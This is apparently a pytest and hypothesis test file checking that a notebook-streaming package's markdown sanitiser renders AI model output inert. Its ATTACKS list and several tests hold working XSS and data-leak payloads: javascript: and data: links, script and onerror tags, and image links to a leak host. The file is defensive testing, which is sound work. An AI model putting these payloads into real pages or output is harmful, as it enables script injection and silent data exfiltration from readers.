"""The ``text/markdown`` nbstream writes from model text is inert wherever it is rendered.

Checked with a real renderer: nbconvert's (mistune, what nbconvert and many viewers use),
rendering *without* a sanitizer, as a trusted notebook may be rendered: no raw HTML, no
link that is not http(s)/mailto, no image — and code stays exactly as written.
"""

from __future__ import annotations

import re

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from nbconvert.filters.markdown_mistune import markdown2html_mistune

from nbstream._bundle import LiveBundle, build
from nbstream._markdown import SafeMarkdown, close_open_fence, defang
from nbstream._response import Response
from nbstream.chat._transcript import transcript_markdown

ATTACKS = [
    "[x](javascript:alert(1))",
    "[x]( javascript:alert(1) )",
    "[x](<javascript:alert(1)>)",
    "[x](JaVaScRiPt:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](data:text/html,<script>alert(1)</script>)",
    "[x][r]\n\n[r]: javascript:alert(1)",
    "![a](http://host/leak?data=secret)",
    "![](http://host/leak)",
    "![a][r]\n\n[r]: http://host/leak",
    "[![a](http://host/i.png)](https://ok.org)",
    '<img src="http://host/leak" onerror="alert(1)">',
    "<script>alert(1)</script>",
    "<a href='javascript:alert(1)'>x</a>",
    "<javascript:alert(1)>",
    "\\`[x](javascript:alert(1))`",
    "1. x\n\n   ```\n[x](javascript:alert(1))\n   ```",
    "  ```\n  code\n```\n[x](javascript:alert(1))",
    "``` `x\n[x](javascript:alert(1))\n```",
    "a `span\n\n[x](javascript:alert(1)) b`",
]


def html_of(markdown: str) -> str:
    return str(markdown2html_mistune(markdown))


def assert_inert(html: str) -> None:
    # nbconvert's renderer gives each heading a "¶" link to itself (class anchor-link,
    # href "#<the heading's id>"): the renderer's own, within the page, not the model's.
    html = re.sub(r'<a class="anchor-link" href="#[^"]*">', "", html)
    for href in re.findall(r'<a [^>]*href="([^"]*)"', html):
        assert re.match(r"(https?:|mailto:)", href, re.I), f"unsafe link {href!r} in {html!r}"
    assert "<img" not in html and "<script" not in html and "<iframe" not in html, html
    assert not re.search(r"<[a-z]+[^>]*\son[a-z]+=", html, re.I), html


@pytest.mark.parametrize("attack", ATTACKS)
def test_attacks_render_inert_without_a_sanitizer(attack: str) -> None:
    assert_inert(html_of(defang(attack)))


def test_each_attack_is_live_without_defang() -> None:
    live = [
        a for a in ATTACKS if re.search(r'href="javascript|<img|<script|href="data', html_of(a))
    ]
    assert len(live) >= 10  # the renderer used here really is unsafe on its own


def test_what_stays_the_same() -> None:
    text = "A [link](https://example.org) and `<b>` and\n\n```html\n<script>x()</script>\n```"
    out = defang(text)
    assert "[link](https://example.org)" in out
    assert "`<b>`" in out and "<script>x()</script>" in out
    assert defang("![chart](https://x.org/c.png)") == "🖼 [chart](https://x.org/c.png)"
    assert defang("1 < 2 & 3") == "1 &lt; 2 &amp; 3"


FRAGMENTS = st.sampled_from(
    [
        "[",
        "]",
        "(",
        ")",
        "!",
        "<",
        ">",
        "`",
        "```",
        "\n",
        "\n\n",
        "   ",
        "javascript:",
        "http://h/x",
        "x",
        "img",
        "script",
        ":",
        "&#106;",
        "\\",
        "*",
        "- ",
        "1. ",
        "> ",
    ]
)


@settings(max_examples=300, deadline=None)
@given(st.lists(FRAGMENTS, max_size=30).map("".join))
def test_any_mix_of_fragments_renders_inert(text: str) -> None:
    assert_inert(html_of(defang(text)))


def test_cell_answers_and_the_transcript_are_defanged() -> None:
    evil = "Hi <img src=x onerror=alert(1)> [x](javascript:alert(1)) ![a](http://h/leak)"
    data, _ = build(Response(text=evil, reasoning="<script>r()</script>", status="done", model="m"))
    assert_inert(
        html_of(
            data["text/markdown"]
            .replace("<details><summary>Reasoning</summary>", "")
            .replace("</details>", "")
            .split("<sub>")[0]
        )
    )
    turns = [{"role": "user", "content": "q"}, {"role": "assistant", "content": evil}]
    assert_inert(html_of(transcript_markdown("openai:m", turns)))


GROWING = st.lists(
    st.one_of(FRAGMENTS, st.sampled_from(["~~~", "````", "```py", "``` `x", "    ", "é🙂"])),
    max_size=40,
).map("".join)


@settings(max_examples=300, deadline=None)
@given(GROWING, st.lists(st.integers(min_value=1, max_value=7), min_size=1, max_size=60))
def test_a_growing_answer_is_made_safe_exactly_as_the_whole_text(
    text: str, steps: list[int]
) -> None:
    # SafeMarkdown keeps the finished lines of a live answer; each result must be what
    # defang(close_open_fence()) makes of the text so far, whatever the fences did.
    safe = SafeMarkdown()
    cut = 0
    for step in [*steps, len(text)]:
        cut = min(len(text), cut + step)
        assert safe(text[:cut]) == defang(close_open_fence(text[:cut]))
    other = text[: len(text) // 2] + "\n[x](javascript:y)"  # not an extension: start again
    assert safe(other) == defang(close_open_fence(other))


def test_live_bundles_are_the_bundles_build_makes() -> None:
    answer = "Intro <b>\n```py\nx = '<'\n" + "line [a](javascript:b)\n" * 3 + "```\ndone ![i](u)"
    reasoning = "think ```\n<i>\n"
    live = LiveBundle(fmt="markdown", params={"raw": True})
    for cut in range(len(answer) + 1):
        text, thought = answer[:cut], reasoning[: cut // 3]
        response = Response(text=text, reasoning=thought, status="streaming", model="m")
        data, metadata = live(response)
        assert (data, metadata) == build(response, fmt="markdown", params={"raw": True})
        shown = data["text/markdown"]
        assert defang(close_open_fence(text)) in shown
        if thought:
            summary = "<details><summary>Reasoning</summary>\n\n"
            assert shown.startswith(summary + defang(close_open_fence(thought)) + "\n\n")
